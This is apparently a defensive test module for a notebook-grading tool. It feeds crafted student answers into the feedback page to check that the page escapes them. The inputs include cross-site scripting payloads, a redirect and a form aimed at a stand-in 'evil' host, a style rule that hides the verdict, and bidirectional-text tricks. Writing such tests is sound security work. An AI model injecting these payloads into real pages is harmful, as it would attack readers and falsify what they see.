"""Attacks on whoever reads the feedback."""

from assignments import notebook
from attack import REASONED, SEEN, Attack, wrong

_RAW = f"runs: raw HTML of a student's markdown is not cleaned ({SEEN})"
_SHOWN = f"shown as it is ({REASONED})"
_TEXT = "shown as text; the page holds no mark-up but ours"
_WRITTEN = "shown as text, or as bare elements of Markdown; no attribute, no address, no mark-up but ours"
_SCRIPT = "</pre></style><script>alert(1)</script><img src=x onerror=alert(1)><style>@import 'http://evil'</style>"


def _written(text):
    def make(cells):
        cells[-1]["source"] = text
        return notebook(*cells)

    return make


ATTACKS = [
    Attack("script in a text", "Writes script, images with handlers and iframes into the written answer.", _RAW, _WRITTEN,
           notebook=_written(_SCRIPT + "<iframe src=javascript:alert(1)></iframe>[x](javascript:alert(1)) <svg/onload=alert(1)>")),
    wrong("script in a message", "Raises an exception whose name and text are mark-up.", _SHOWN, _TEXT,
          f"class Script(Exception):\n    pass\nScript.__name__ = {_SCRIPT!r}\ndef square(x):\n    raise Script({_SCRIPT!r})\n"),
    wrong("script in code", "Puts mark-up into comments, strings and names of the answer.", _SHOWN, _TEXT,
          f"# {_SCRIPT}\ntext = '''{{{{ 7 * 7 }}}} {{% raw %}} {_SCRIPT.replace(chr(39), '')}'''\ndef square(x):\n    '''{_SCRIPT.replace(chr(39), '')}'''\n    print(text)\n    return text\n"),
    Attack("style in a text", "Hides the verdict with a style sheet, a base address and a redirect.", _RAW, _WRITTEN,
           notebook=_written("</pre><style>.verdict{display:none}</style><base href=//evil><meta http-equiv=refresh content='0;url=//evil'><form action=//evil>")),
    wrong("writing turned round", "Turns the direction of writing round, so that `wrong` reads as something else.", _SHOWN, "shown with the signs made visible",
          "def square(x):\n    raise ValueError('\\u202etfel\\u2066 \\x1b[2K\\x00\\x9b right')\n# \u202e right \u2066\n"),
    wrong("mark-up in cell types", "Names a cell's type in mark-up, so that the report of the repair carries it.", _SHOWN, _TEXT, "def square(x):\n    return 0\n",
          notebook=lambda cells: notebook(*[{**each, "cell_type": "<script>alert(1)"} for each in cells])),
    Attack("a megabyte of text", "Writes a megabyte without a space, and a hundred thousand lines.", _SHOWN, "shown as text", notebook=_written("x" * 500_000 + "\n" * 100_000)),
]
